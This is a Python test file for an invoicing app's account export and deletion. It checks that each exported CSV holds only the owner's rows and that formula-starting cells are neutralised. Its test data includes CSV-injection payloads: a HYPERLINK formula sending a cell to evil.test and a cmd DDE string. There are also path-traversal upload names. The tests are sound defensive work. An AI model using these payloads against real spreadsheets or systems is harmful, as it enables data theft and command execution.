"""Files that leave the app are safe and complete (issue 14, point 5).

- Every table of ``db.metadata`` is in the export or in ``NOT_EXPORTED`` with its
  reason; every column of an exported table is a column of its file unless
  ``HIDDEN_COLUMNS`` says why not. The account's rows are found here on our own,
  by walking the foreign keys from ``account`` — not with the export's own
  queries — and each file must hold exactly those rows.
- Every text cell that a spreadsheet would run as a formula is neutralised.
- An uploaded file's hostile name never becomes a path in the ZIP.
- "Delete my account" removes every row the walk finds, and none of a stranger's.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import func, select

from app import csvsafe, export
from app.extensions import db
from app.invoicing import LineInput, record_payment, set_lines
from app.models import (
    Account,
    ClientAnswer,
    Event,
    FeeCost,
    ImportFile,
    MessageTemplate,
    PdfCache,
    RateOverride,
    Reminder,
    ReminderBatch,
    ReminderItem,
    StatementLine,
)

from .conftest import PASSWORD
from .factories import make_account, make_client, make_invoice

HOSTILE = [
    '=HYPERLINK("https://evil.test/?d="&A1,"Pay here")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
NOW = datetime(2026, 11, 23, 8, 0, tzinfo=UTC)


def _seed(account: Account, tag: str) -> None:
    """A row in every table an account can fill, with hostile text where text goes."""
    client = make_client(
        account, name=HOSTILE[0] + tag, email=f"compta{tag}@client.test", address=HOSTILE[1], notes=HOSTILE[2]
    )
    invoice = make_invoice(account, client, number=f"=F-{tag}", total_cents=123_45, notes=HOSTILE[3])
    set_lines(invoice, [LineInput(HOSTILE[4], 1000, 123_45, 2000)])
    payment = record_payment(invoice, 20_00, date(2026, 11, 20), "transfer", HOSTILE[5])
    batch = ReminderBatch(key=f"batch-{tag}", account_id=account.id, skipped="=1")
    db.session.add(batch)
    db.session.flush()
    reminder = Reminder(
        key=f"rem-{tag}",
        account_id=account.id,
        client_id=client.id,
        invoice_id=invoice.id,
        batch_id=batch.id,
        state="sent",
        recipient=client.email,
        subject="@subject",
        body="=body",
        sent_at=NOW,
    )
    db.session.add(reminder)
    db.session.flush()
    db.session.add(
        ReminderItem(reminder_id=reminder.id, invoice_id=invoice.id, level=1, balance_cents=103_45)
    )
    upload = ImportFile(
        account_id=account.id,
        kind="statement",
        filename="../../../etc/passwd.csv",
        content=b"date;amount\n2026-11-20;20,00\n",
        size=29,
    )
    db.session.add(upload)
    db.session.flush()
    db.session.add_all(
        [
            Event(account_id=account.id, invoice_id=invoice.id, kind="note", detail="=event"),
            ClientAnswer(account_id=account.id, invoice_id=invoice.id, kind="dispute", message="-dispute"),
            MessageTemplate(
                account_id=account.id, kind="level1", channel="email", language="fr", subject="=s", body="+b"
            ),
            FeeCost(account_id=account.id, level=1, fixed_cents=40_00, percent_bp=150),
            RateOverride(account_id=account.id, series="ecb", starts_on=date(2026, 7, 1), rate_bp=215),
            StatementLine(
                account_id=account.id,
                import_id=upload.id,
                bank_id=f"=bank-{tag}",
                booked_on=date(2026, 11, 20),
                amount_cents=-12_50,
                counterparty="@counterparty",
                text="=text",
                invoice_id=invoice.id,
                payment_id=payment.id,
            ),
            PdfCache(invoice_id=invoice.id, variant="invoice", state_hash="x" * 64, pdf=b"%PDF-1.7"),
        ]
    )
    db.session.commit()


def _owned_ids() -> dict[str, str]:
    """For every table, SQL selecting the ids of the rows of account :a, found by
    walking foreign keys from ``account`` (independent of app/export.py)."""
    tables = db.metadata.tables
    ids = {"account": "SELECT id FROM account WHERE id = :a"}
    changed = True
    while changed:
        changed = False
        for name, table in tables.items():
            if name in ids:
                continue
            if "account_id" in table.c:
                ids[name] = f"SELECT id FROM {name} WHERE account_id = :a"
                changed = True
                continue
            for fk in table.foreign_keys:
                parent = fk.column.table.name
                if parent in ids and not fk.parent.nullable:
                    ids[name] = f"SELECT id FROM {name} WHERE {fk.parent.name} IN ({ids[parent]})"
                    changed = True
                    break
    return ids


def _count(sql_ids: str, account_id: int) -> int:
    return db.session.execute(
        db.text(f"SELECT count(*) FROM ({sql_ids}) AS owned"), {"a": account_id}
    ).scalar()


def _read(data: bytes) -> tuple[dict[str, list[list[str]]], zipfile.ZipFile]:
    archive = zipfile.ZipFile(io.BytesIO(data))
    files = {}
    for name in archive.namelist():
        if name.endswith(".csv") and "/" not in name:
            files[name] = list(csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
    return files, archive


@pytest.fixture
def seeded(app, auth, fixed_now):
    fixed_now(NOW)
    auth.register()
    with app.app_context():
        owner = db.session.scalar(select(Account).where(Account.email == "owner@example.com"))
        _seed(owner, "mine")
        stranger = make_account("stranger@example.com")
        _seed(stranger, "theirs")
        return owner.id, stranger.id


def test_every_table_is_exported_or_excluded_with_a_reason(app):
    exported = {owned.model.__table__.name for owned in export.OWNED}
    for name in db.metadata.tables:
        assert name in exported or name in export.NOT_EXPORTED, (
            f"table {name!r} is neither in app/export.py OWNED nor in NOT_EXPORTED: "
            "add it to the export (and to delete_account, which walks OWNED)"
        )
    assert not exported & set(export.NOT_EXPORTED)
    for table, column in export.HIDDEN_COLUMNS:
        assert column in db.metadata.tables[table].c, f"stale HIDDEN_COLUMNS entry {table}.{column}"


def test_the_export_holds_every_row_and_column_of_mine_and_nothing_of_theirs(app, client, seeded):
    mine, theirs = seeded
    response = client.form("/settings/account/export")
    assert response.status_code == 200
    assert b"theirs" not in response.data
    files, archive = _read(response.data)
    with app.app_context():
        walk = _owned_ids()
        by_table = {owned.model.__table__.name: owned for owned in export.OWNED}
        for table, sql_ids in walk.items():
            if table in export.NOT_EXPORTED:
                continue
            owned = by_table[table]
            expected = _count(sql_ids, mine)
            assert expected >= 1, f"the seed left {table} empty: the test would prove nothing"
            header, *rows = files[owned.file]
            assert len(rows) == expected, f"{owned.file}: {len(rows)} rows, the account has {expected}"
            friendly = {source: h for h, source, _ in owned.friendly if source}
            for column in db.metadata.tables[table].c:
                if (table, column.name) in export.HIDDEN_COLUMNS:
                    assert column.name not in header
                    continue
                assert friendly.get(column.name, column.name) in header, f"{owned.file} lacks {column.name}"
        # The stranger's rows exist (the walk finds them) and are not in my file.
        assert _count(walk["reminder_item"], theirs) == 1
    # The uploaded file is in the ZIP, under a name of ours.
    [upload] = [n for n in archive.namelist() if n.startswith("imports/")]
    assert upload.endswith(".csv") and ".." not in upload
    assert archive.read(upload) == b"date;amount\n2026-11-20;20,00\n"
    header, row = files["imports.csv"]
    assert dict(zip(header, row, strict=True))["file"] == upload
    # Secrets stay out.
    assert "password_hash" not in files["account.csv"][0]
    assert PASSWORD.encode() not in response.data


def test_no_cell_of_the_export_starts_a_formula(client, seeded):
    files, _ = _read(client.form("/settings/account/export").data)
    cells = [value for rows in files.values() for row in rows for value in row]
    for value in cells:
        if value.startswith(csvsafe.FORMULA_STARTS):
            # Only numbers the app wrote itself may start with "-".
            assert value.startswith("-") and value.lstrip("-").replace(".", "").isdigit(), repr(value)
    for hostile in HOSTILE:
        assert "'" + hostile + ("mine" if hostile == HOSTILE[0] else "") in cells
    statement = dict(zip(*files["statement_lines.csv"], strict=True))
    assert statement["amount"] == "-12.50"  # a negative amount stays a number
    assert statement["counterparty"] == "'@counterparty"
    invoice = dict(zip(*files["invoices.csv"], strict=True))
    assert invoice["number"] == "'=F-mine"
    assert (invoice["total"], invoice["paid"], invoice["balance"]) == (
        "148.14",
        "20.00",
        "128.14",
    )  # 123.45 + 20 % VAT


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Atelier = Moreau", "Atelier = Moreau"),
        ("", ""),
        ("'=already", "'=already"),
        (12, 12),
        (None, None),
    ],
)
def test_cell_table(value, expected):
    assert csvsafe.cell(value) == expected


@pytest.mark.parametrize(
    "filename, member",
    [
        ("../../../etc/passwd.csv", "imports/7.csv"),
        ("/abs/path/statement.XML", "imports/7.xml"),
        ("C:\\Users\\x\\relevé.cs\u202ev", "imports/7.bin"),
        ("no-extension", "imports/7.bin"),
        ("", "imports/7.bin"),
    ],
)
def test_an_uploaded_files_name_never_becomes_a_path(filename, member):
    assert export.import_member(ImportFile(id=7, filename=filename)) == member


def test_delete_account_removes_every_row_of_mine_and_none_of_theirs(app, client, seeded):
    mine, theirs = seeded
    with app.app_context():
        walk = _owned_ids()
        before = {table: _count(sql, theirs) for table, sql in walk.items()}
    response = client.form("/settings/account/delete", {"current": PASSWORD})
    assert response.status_code == 302
    with app.app_context():
        for table, sql in walk.items():
            assert _count(sql, mine) == 0, f"{table} kept rows of a deleted account"
            assert _count(sql, theirs) == before[table], f"{table} lost a stranger's rows"
        assert db.session.scalar(select(func.count(PdfCache.id))) == 1
